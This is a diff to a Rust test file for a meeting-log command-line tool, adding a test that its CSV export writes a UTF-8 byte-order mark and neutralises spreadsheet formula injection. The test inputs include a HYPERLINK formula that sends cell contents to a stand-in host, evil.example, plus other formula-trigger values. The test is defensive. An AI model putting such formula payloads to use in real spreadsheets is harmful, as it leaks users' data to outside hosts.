@@ -700,6 +700,10 @@ fn html_escape_handles_script_and_ampersand() {
 // ---------------------------------------------------------------- CSV read back
 
 fn read_csv(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
+    // The file starts with a UTF-8 byte-order mark, for spreadsheets.
+    let text = text
+        .strip_prefix(export::CSV_BOM)
+        .expect("a CSV export starts with a byte-order mark");
     let mut r = csv::ReaderBuilder::new().from_reader(text.as_bytes());
     let headers = r.headers().unwrap().iter().map(String::from).collect();
     let rows = r
@@ -769,6 +773,86 @@ fn csv_reads_back_with_commas_quotes_and_newlines_intact() {
     assert_eq!(open[8], "Ana Ruiz");
     let rubric = rows.iter().find(|r| r[0] == "test-rubric").unwrap();
     assert_eq!(rubric[4], "2");
+}
+
+#[test]
+fn csv_is_safe_to_open_in_a_spreadsheet_and_says_it_is_utf8() {
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = tmp.path().join("j");
+    ml(&dir)
+        .args(["partner", "add", "Zoé Café"])
+        .assert()
+        .success();
+    ml(&dir)
+        .args([
+            "log",
+            "--with",
+            "Zoé Café",
+            "--focus",
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "--action=-1+1",
+            "--",
+            "+SUM(1;2) and a café ☕",
+        ])
+        .assert()
+        .success();
+    ml(&dir)
+        .args(["goal", "add", "--with", "Zoé Café", "--", "@SUM(A1)"])
+        .assert()
+        .success();
+    let bytes = |table: &str, extra: &[&str]| {
+        let mut c = ml(&dir);
+        c.args(["export", "csv", "--with", "Zoé Café", "--table", table])
+            .args(extra);
+        c.assert().success().get_output().stdout.clone()
+    };
+    for table in ["meetings", "goals", "ticks"] {
+        let with = bytes(table, &[]);
+        assert!(
+            with.starts_with(b"\xef\xbb\xbf"),
+            "{table}: a UTF-8 BOM first"
+        );
+        let without = bytes(table, &["--no-bom"]);
+        assert_eq!(
+            &with[3..],
+            &without[..],
+            "{table}: --no-bom leaves out the BOM only"
+        );
+        let (h, rows) = read_csv(&String::from_utf8(with).unwrap());
+        for cell in h.iter().chain(rows.iter().flatten()) {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{table}: a live formula: {cell:?}"
+            );
+        }
+        if table == "meetings" {
+            let m = &rows[0];
+            assert_eq!(m[6], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
+            assert_eq!(m[7], "'+SUM(1;2) and a café ☕");
+            assert!(m[9].starts_with("[ ] -1+1"), "{}", m[9]);
+        }
+        if table == "goals" {
+            assert_eq!(rows[0][3], "'@SUM(A1)");
+        }
+    }
+    // To a file too.
+    let file = tmp.path().join("m.csv");
+    ml(&dir)
+        .args([
+            "export",
+            "csv",
+            "--with",
+            "Zoé Café",
+            "--table",
+            "meetings",
+            "-o",
+        ])
+        .arg(&file)
+        .assert()
+        .success();
+    let text = fs::read(&file).unwrap();
+    assert!(text.starts_with(b"\xef\xbb\xbf"));
+    assert!(String::from_utf8(text).unwrap().contains("\"'=HYPERLINK("));
 }
 
 // ---------------------------------------------------------------- iCalendar read back
